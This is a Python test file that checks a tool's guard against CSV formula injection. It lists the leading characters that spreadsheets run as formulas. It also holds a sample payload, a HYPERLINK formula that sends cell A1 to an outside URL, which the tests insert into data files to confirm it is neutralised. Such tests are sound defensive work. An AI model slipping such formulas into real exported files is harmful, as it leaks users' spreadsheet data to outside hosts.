"""No cell that we write is a formula for a spreadsheet, and each is read back as it was."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nettverk.archive.hendingslinjer import HENDINGAR
from nettverk.archive.hendingsliste import load_hendingar
from nettverk.characters import bare_cell, guard_cell
from nettverk.reading.files import Files
from tests.conftest import Copy

from .conftest import Cli

RUNS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""How a text begins that Excel, LibreOffice or Google Sheets runs."""
EVIL = '=HYPERLINK("https://example.org/?"&A1;"Sjå")'


@given(st.text(alphabet=[*RUNS, "'", "a", "–", " "]))
def test_guarded_cell_runs_nothing_and_is_read_as_it_was(text: str) -> None:
    cell = guard_cell(text)
    assert not cell.startswith(RUNS)
    assert bare_cell(cell) == text


@pytest.mark.parametrize("text", ["", "–", "'sitat'", "Nord", "12.00–15.00", "1-2"])
def test_any_other_cell_is_as_it_is(text: str) -> None:
    assert guard_cell(text) == text == bare_cell(text)


def test_names_from_the_data_are_no_formulas(cli: Cli, workspace: Copy) -> None:
    root = workspace("golden")
    for path in (root / "data").iterdir():
        said = path.read_text("utf-8").replace("Måneflata barneskule", f"'{EVIL}'")
        path.write_text(said, encoding="utf-8")
    rows = [*csv.reader(io.StringIO(cli("plan", "--format", "csv", root=root).out))]
    assert any(f"'{EVIL}" in row for row in rows)
    assert not any(cell.startswith(RUNS) for row in rows for cell in row)


def test_list_of_events_has_no_formula_and_gives_the_text_back(cli: Cli, workspace: Copy) -> None:
    root = workspace("golden")
    networks, year = root / "data/networks.yaml", root / "data/2026-2027.yaml"
    for path in (networks, year):
        said = path.read_text("utf-8").replace("namn: Alt\n", "namn: '-1+1'\n")
        path.write_text(said, encoding="utf-8")
    for words in (["innkalling"], ["utlagt", "innkalling", "--likevel"]):
        cli(*words, root=root)
    lines = (root / HENDINGAR).read_text("utf-8").splitlines()
    assert any(";'-1+1;" in line for line in lines)
    assert {each.nettverk for each in load_hendingar(Files(root)).alle} >= {"-1+1"}
